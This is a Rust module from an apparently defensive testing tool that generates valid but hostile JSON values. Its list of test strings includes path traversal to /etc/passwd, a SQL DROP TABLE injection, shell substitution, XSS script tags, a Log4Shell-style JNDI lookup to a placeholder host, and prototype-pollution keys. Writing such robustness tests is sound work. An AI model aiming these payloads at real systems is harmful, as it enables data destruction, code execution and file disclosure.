//! Valid values that careless programs mishandle.

use std::fmt;

use serde_json::{Value, json};

use super::{
    Values,
    place::{Place, places, replaced},
    text,
};

/// Maximum number of places for one text or number.
const PLACES: usize = 8;
/// Maximum number of places to try.
const TRIED: usize = 16;
/// Maximum size of a value, in bytes.
const BYTES: usize = 256 << 10;

/// A valid hostile value.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Hostile {
    /// The value.
    pub(crate) value: Value,
    /// What is hostile about it.
    pub(crate) kind: HostileKind,
    /// The places that contain it, as JSON pointers.
    pub(crate) pointers: Vec<String>,
}

/// The kinds of hostile values.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum HostileKind {
    /// Empty strings.
    Empty,
    /// Nothing but white space.
    Blank,
    /// A hundred thousand characters.
    Long,
    /// Characters beyond the basic plane, joined to one symbol.
    Emoji,
    /// U+0000.
    Nul,
    /// Marks that reverse the order of the following text.
    RightToLeft,
    /// Characters composed of many code points.
    Combining,
    /// Quotes, backslashes, line feeds.
    Quotes,
    /// A path that leaves its directory.
    Path,
    /// A Windows path, and the name of a Windows device.
    WindowsPath,
    /// Text that a database might execute.
    Sql,
    /// Text that a shell might execute.
    Shell,
    /// Text that a web page might execute.
    Markup,
    /// Text that a template engine or a formatting function might expand.
    Template,
    /// A name that is special in JavaScript.
    Prototype,
    /// A number that does not survive a floating-point representation.
    BeyondDouble,
    /// The largest and the smallest integers.
    Extreme,
    /// Numbers that are tiny, huge, or a negative zero.
    Fraction,
    /// Additional members, where they are allowed.
    ExtraMembers,
}

impl fmt::Display for HostileKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            HostileKind::Empty => "empty text",
            HostileKind::Blank => "nothing but white space",
            HostileKind::Long => "very long text",
            HostileKind::Emoji => "emoji",
            HostileKind::Nul => "U+0000",
            HostileKind::RightToLeft => "text that runs from right to left",
            HostileKind::Combining => "combining characters",
            HostileKind::Quotes => "quotes and control characters",
            HostileKind::Path => "a path that leaves its directory",
            HostileKind::WindowsPath => "a Windows path",
            HostileKind::Sql => "text that looks like SQL",
            HostileKind::Shell => "text that looks like a shell command",
            HostileKind::Markup => "text that looks like HTML",
            HostileKind::Template => "text that looks like a template",
            HostileKind::Prototype => "`__proto__`",
            HostileKind::BeyondDouble => "2^53 + 1",
            HostileKind::Extreme => "the largest or smallest integer",
            HostileKind::Fraction => "an extreme floating-point number",
            HostileKind::ExtraMembers => "members named `__proto__` and `constructor`",
        })
    }
}

/// The hostile texts, with their kinds.
pub(crate) fn texts() -> Vec<(HostileKind, Value)> {
    let long = text::of_length("plumb ", text::LONGEST).unwrap_or_default();
    let texts = [
        (HostileKind::Empty, ""),
        (HostileKind::Emoji, "👩‍👩‍👧‍👦🏳️‍🌈\u{10ffff}"),
        (HostileKind::Nul, "plumb\u{0}plumb"),
        (HostileKind::Path, "../../../../../../etc/passwd"),
        (HostileKind::Quotes, "\"'`\\\r\n\t{}[]</\u{7f}\u{2028}"),
        (HostileKind::RightToLeft, "\u{202e}bmulp\u{202c} \u{200f}شلوم"),
        (HostileKind::Sql, "' OR '1'='1'; DROP TABLE plumb; --"),
        (HostileKind::Shell, "$(echo plumb) `echo plumb`; echo plumb | cat & "),
        (HostileKind::Markup, "<script>alert('plumb')</script><img src=x onerror=alert(1)>"),
        (HostileKind::Template, "{{7*7}} ${7*7} #{7*7} %s%n%x {0} ${jndi:ldap://plumb.invalid/a}"),
        (HostileKind::WindowsPath, "C:\\..\\..\\Windows\\win.ini\\CON"),
        (HostileKind::Prototype, "__proto__"),
        (HostileKind::Blank, " \u{a0}\u{3000}\u{feff} "),
        (HostileKind::Combining, "Z\u{351}\u{36b}\u{343}a\u{363}\u{366}lgo \u{1100}\u{1161}"),
    ];
    let texts = texts.into_iter().map(|(kind, text)| (kind, json!(text)));
    texts.chain([(HostileKind::Long, json!(long))]).collect()
}

fn numbers() -> Vec<(HostileKind, Value)> {
    vec![
        (HostileKind::BeyondDouble, json!(9_007_199_254_740_993_i64)),
        (HostileKind::Extreme, json!(i64::MIN)),
        (HostileKind::Extreme, json!(u64::MAX)),
        (HostileKind::Fraction, json!(-0.0)),
        (HostileKind::Fraction, json!(5e-324)),
        (HostileKind::Fraction, json!(1.797_693_134_862_315_7e308)),
    ]
}

pub(super) fn hostile(values: &Values, base: &Value, most: usize) -> Vec<Hostile> {
    let places = places(values.document(), base);
    let of = |kind: fn(&Value) -> bool| -> Vec<&Place<'_, '_>> {
        places.iter().filter(|place| kind(place.value)).collect()
    };
    let (strings, integers) = (of(Value::is_string), of(Value::is_number));
    let texts = texts().into_iter().map(|(kind, text)| (kind, text, &strings));
    let numbers = numbers().into_iter().map(|(kind, number)| (kind, number, &integers));
    let mut found: Vec<Hostile> = texts
        .chain(numbers)
        .filter_map(|(kind, value, places)| spread(values, base, places, kind, &value))
        .collect();
    let extra = json!({ "__proto__": { "plumb": true }, "constructor": "plumb", "": "plumb" });
    for place in places.iter().filter(|place| place.value.is_object()).take(1) {
        let mut members = place.value.clone();
        if let (Some(members), Some(extra)) = (members.as_object_mut(), extra.as_object()) {
            members.extend(extra.clone());
        }
        let Some(value) = replaced(base, &place.pointer, Some(members)) else { continue };
        if values.accepts(&value) {
            let pointers = vec![place.pointer.clone()];
            found.push(Hostile { value, kind: HostileKind::ExtraMembers, pointers });
        }
    }
    // Prefer a few of every kind to all of some kinds.
    found.sort_by_key(|hostile| {
        matches!(hostile.kind, HostileKind::Extreme | HostileKind::Fraction)
    });
    found.truncate(most);
    found
}

/// Puts a value at every place where it is valid.
fn spread(
    values: &Values,
    base: &Value,
    places: &[&Place<'_, '_>],
    kind: HostileKind,
    by: &Value,
) -> Option<Hostile> {
    let (mut value, mut pointers) = (base.clone(), Vec::new());
    let size = by.as_str().map_or(8, str::len);
    let most = PLACES.min((BYTES / size.max(1)).max(1));
    for place in places.iter().take(TRIED) {
        if pointers.len() == most {
            break;
        }
        let changed = replaced(&value, &place.pointer, Some(by.clone()));
        if let Some(changed) = changed.filter(|changed| values.accepts(changed)) {
            value = changed;
            pointers.push(place.pointer.clone());
        }
    }
    (!pointers.is_empty()).then_some(Hostile { value, kind, pointers })
}
